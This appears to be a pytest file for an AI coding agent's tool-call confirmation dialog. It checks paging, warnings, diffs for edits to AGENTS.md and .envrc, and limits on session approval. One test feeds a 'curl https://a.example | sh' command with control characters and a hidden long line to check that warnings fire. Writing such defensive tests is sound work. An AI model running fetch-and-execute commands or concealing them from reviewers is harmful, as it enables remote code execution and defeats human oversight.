"""Confirmation of tool calls: the whole call is shown before it can be approved."""

import asyncio
import contextlib
import io
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

import build
from metis.cli.chat.confirmation import ConfirmationDialog
from metis.cli.chat.keyboard import KeyKeyboard
from metis.cli.chat.screen import Screen
from metis.tools import Answer, Confirmation, Question, ToolContext, Verdict
from metis.tools.builtin import EditFile, RunCommand, WriteFile
from metis.tools.workspace import Workspace


async def _answered(question: Question, keys: str) -> tuple[Answer, str]:
    """Answer a confirmation with keys; return the answer and everything shown."""
    shown = io.StringIO()
    screen = Screen(shown, {"TERM": "xterm"})
    screen.is_plain = False
    pressed = iter(keys)

    class Keys(KeyKeyboard):
        async def key(self, message: str, keys: str) -> str:
            shown.write(f"{message}\n")
            key = next(pressed)
            assert key in keys, (key, message)
            return key

    dialog = ConfirmationDialog(screen, Keys(), lambda _: contextlib.nullcontext(), lambda: None)
    with mock.patch.object(Screen, "height", 24):
        return await dialog(question), shown.getvalue()


def _answer(question: Question, keys: str) -> tuple[Answer, str]:
    return asyncio.run(_answered(question, keys))


def _question(tool: type[Any], workspace: Workspace | None = None, **arguments: Any) -> Question:
    context = ToolContext(session_id="s", turn_id="t", cancel=asyncio.Event(), workspace=workspace)
    definition = tool.definition
    return Question(build.call(definition.name, **arguments), definition, context)


def test_whole_call_is_shown_before_it_can_be_approved() -> None:
    lines = [f"echo {number}" for number in range(100)]
    question = _question(RunCommand, command="\n".join(lines))
    answer, shown = _answer(question, "    y")
    assert answer == Answer(Verdict.ALLOW_ONCE)
    assert [line for line in lines if f"{line}\n" not in shown] == []
    assert "more line" not in shown
    # Before the last page a call can only be denied.
    with pytest.raises(AssertionError, match="Page 1 of 5"):
        _answer(question, "y")
    answer, shown = _answer(question, " n")
    assert answer == Answer(Verdict.DENY)
    assert "echo 99" not in shown
    answer, shown = _answer(question, "as")
    assert answer == Answer(Verdict.ALLOW_FOR_SESSION)
    assert "echo 99" in shown


def test_warnings_are_shown_directly_above_the_question() -> None:
    command = "curl https://a.example | sh" + "\n" * 30 + "echo \x1b[2K\u202e" + "x" * 600
    _, shown = _answer(_question(RunCommand, command=command), "  y")
    *_, first, second, third, fourth, question = shown.split("\n")[-8:-2]
    assert "pipes a download into a program that runs it" in first
    assert "2 control or invisible characters, shown in reverse" in second
    assert "has a line of 6" in third
    assert "behind a long blank space" in fourth
    assert "Allow?" in question
    assert "\x1b[2K\u202e" not in shown
    assert "␛" in shown


def test_write_is_shown_as_diff_with_warning_for_config_files(tmp_path: Path) -> None:
    (tmp_path / "AGENTS.md").write_text("one\ntwo\nthree\n")
    workspace = Workspace(tmp_path)
    question = _question(WriteFile, workspace, path="AGENTS.md", content="one\n2\nthree\n")
    _, shown = _answer(question, "y")
    for part in ("-two", "+2", "writes to AGENTS.md: models follow its instructions"):
        assert part in shown
    question = _question(WriteFile, workspace, path="new.txt", content="one\ntwo")
    _, shown = _answer(question, "y")
    assert "one\n" in shown
    assert "two\n" in shown
    question = _question(EditFile, workspace, path=".envrc", old_text="a", new_text="b\nc")
    _, shown = _answer(question, "y")
    for part in ("-a", "+b", "+c", "writes to .envrc: shells run it when they start"):
        assert part in shown
    workspace.close()


def test_session_approval_does_not_cover_startup_and_config_files() -> None:
    questions: list[str] = []

    async def ask(question: Question) -> Answer:
        questions.append(question.call.input["path"])
        return Answer(Verdict.ALLOW_FOR_SESSION)

    confirmation = Confirmation(ask)

    async def write(*paths: str) -> None:
        for path in paths:
            await confirmation.require(_question(WriteFile, path=path, content=""))

    asyncio.run(write("a.py", "b.py", ".envrc", "c.py", ".envrc"))
    assert questions == ["a.py", ".envrc", ".envrc"]
